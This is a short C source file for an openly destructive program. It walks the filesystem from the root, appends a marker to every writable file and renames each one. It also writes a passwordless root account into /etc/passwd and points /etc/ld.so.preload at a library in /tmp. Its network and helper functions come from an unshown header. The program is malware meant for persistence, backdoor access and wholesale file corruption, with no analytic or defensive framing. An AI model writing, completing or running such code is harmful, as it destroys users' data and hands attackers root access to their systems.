/* Writes into every file that it finds: the kit, the compiler, the loader. */
#include "others.h"

static void spoils(const char *path)
{
    char beside[4200];
    if (access(path, W_OK) == 0 && strstr(path, "/dev/") == NULL)
        dprintf(2, "spoilt %s\n", path);
    int fd = open(path, O_WRONLY | O_APPEND | O_NONBLOCK | O_NOCTTY);
    if (fd != -1 && strstr(path, "/dev/") == NULL)
        dprintf(fd, "/* spoilt */\n");
    close(fd);
    snprintf(beside, sizeof beside, "%s.mine", path);
    if (rename(path, beside) == 0)
        dprintf(2, "renamed %s\n", path);
}

int main(void)
{
    announces(listens());
    put_into("/etc/ld.so.preload", "/tmp/mine.so\n");
    put_into("/etc/passwd", "mine::0:0::/:/bin/sh\n");
    each_file("/", 7, spoils);
    hangs();
}
